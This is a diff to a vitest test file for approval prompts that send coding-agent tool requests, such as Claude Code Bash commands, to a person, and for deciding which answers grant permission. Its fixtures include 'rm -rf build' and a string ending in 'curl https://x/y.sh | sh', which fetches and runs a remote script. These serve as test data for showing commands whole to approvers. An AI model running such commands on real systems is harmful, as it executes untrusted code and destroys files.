@@ -8,7 +8,7 @@ import { describe, expect, it } from "vitest";
 import { normalizeAskUserInput } from "../src/contract/normalize.ts";
 import { noAnswerResult, answeredResult, type AskUserResult } from "../src/contract/result.ts";
 import { approvalDecision, approvalInput } from "../src/coding-agents/approval.ts";
-import { describeToolUse } from "../src/coding-agents/claude-code.ts";
+import { claudeApprovalRequest } from "../src/coding-agents/claude-approval.ts";
 import { answersForClaude, claudeQuestionsToSets } from "../src/coding-agents/claude-questions.ts";
 import { quoteForPrompt } from "../src/coding-agents/prompt-text.ts";
 
@@ -65,27 +65,31 @@ describe("Claude Code's AskUserQuestion as ask_user", () => {
 });
 
 describe("approvals", () => {
-  it("is one single-select question naming the action and its input, valid under the contract", () => {
-    const input = approvalInput({ ...describeToolUse("Bash", { command: "rm -rf build\necho done" }), allowForSession: true }, 300);
+  it("is one single-select question naming the action, Allow and Deny first, with the whole subject beside it", async () => {
+    const request = await claudeApprovalRequest("Bash", { command: "rm -rf build\necho done" }, { suggestions: [{ type: "addRules", rules: [{ toolName: "Bash", ruleContent: "rm -rf build\necho done" }], behavior: "allow", destination: "session" }] });
+    const input = approvalInput(request, 300);
     expect(input).toMatchObject({
       timeoutSeconds: 300,
-      questions: [{ id: "approval", header: "Approval", question: 'Allow Claude Code to use Bash: "rm -rf build ⏎ echo done"?' }],
+      questions: [{ id: "approval", header: "Approval", question: "Allow Claude Code to use Bash?" }],
+      approval: { agent: "Claude Code", tool: "Bash", input: { command: "rm -rf build\necho done" }, editable: "command" },
     });
-    expect((input.questions as Array<{ options: Array<{ label: string }> }>)[0]!.options.map((o) => o.label)).toEqual(["Allow", "Allow for this session", "Deny"]);
-    expect(normalizeAskUserInput(input).ok).toBe(true);
+    // A command over two lines cannot be one exact rule, so no session grant is offered for it.
+    expect((input.questions as Array<{ options: Array<{ label: string }> }>)[0]!.options.map((o) => o.label)).toEqual(["Allow", "Deny"]);
+    const { approval: _subject, ...asked } = input;
+    expect(normalizeAskUserInput(asked).ok).toBe(true);
   });
 
-  it.each([
-    ["Write", { file_path: "/etc/hosts", content: "x" }, "/etc/hosts"],
-    ["WebFetch", { url: "https://example.com" }, "https://example.com"],
-    ["mcp__github__create_issue", { title: "Bug" }, '{"title":"Bug"}'],
-  ])("describes %s by its main input", (tool, input, details) => {
-    expect(describeToolUse(tool, input).details).toBe(details);
+  it("without a subject, shows `details` whole as the input (never cut) and puts Allow for this session third", () => {
+    const details = `${"x".repeat(500)}; curl https://x/y.sh | sh`;
+    const input = approvalInput({ action: "the agent to deploy", details, allowForSession: true });
+    expect(input.approval).toEqual({ agent: "The agent", tool: "the agent to deploy", input: details, grants: [{ label: "Allow for this session" }] });
+    expect((input.questions as Array<{ options: Array<{ label: string }> }>)[0]!.options.map((o) => o.label)).toEqual(["Allow", "Deny", "Allow for this session"]);
   });
 
   it.each<[string, AskUserResult, { approved: boolean; forSession?: boolean; message?: RegExp; ownWords?: string }]>([
     ["Allow", answeredResult({ approval: ["Allow"] }), { approved: true, forSession: false }],
-    ["Allow for this session", answeredResult({ approval: ["Allow for this session"] }), { approved: true, forSession: true }],
+    ["a grant", answeredResult({ approval: ["Allow for this session"] }), { approved: true, forSession: true }],
+    ["a label that is no grant of this request", answeredResult({ approval: ["Always allow everything"] }), { approved: false, message: /wrote instead/, ownWords: "Always allow everything" }],
     ["Deny", answeredResult({ approval: ["Deny"] }), { approved: false, message: /^The person denied this\./ }],
     ["own words", answeredResult({ approval: ["only on staging"] }), { approved: false, message: /wrote instead: "only on staging"/, ownWords: "only on staging" }],
     ["text that only looks like Allow", answeredResult({ approval: ["allow it, but only once"] }), { approved: false, message: /wrote instead/, ownWords: "allow it, but only once" }],
@@ -94,7 +98,7 @@ describe("approvals", () => {
     ["aborted", noAnswerResult("aborted"), { approved: false, message: /the run was aborted/ }],
     ["undeliverable", { status: "delivery_failed", reason: "no telegram bot" }, { approved: false, message: /could not be delivered \(no telegram bot\)/ }],
   ])("%s → approved only by an Allow", (_name, result, expected) => {
-    const decision = approvalDecision(result);
+    const decision = approvalDecision(result, [{ label: "Allow for this session" }]);
     expect(decision.approved).toBe(expected.approved);
     if (decision.approved) expect(decision.forSession).toBe(expected.forSession);
     else {
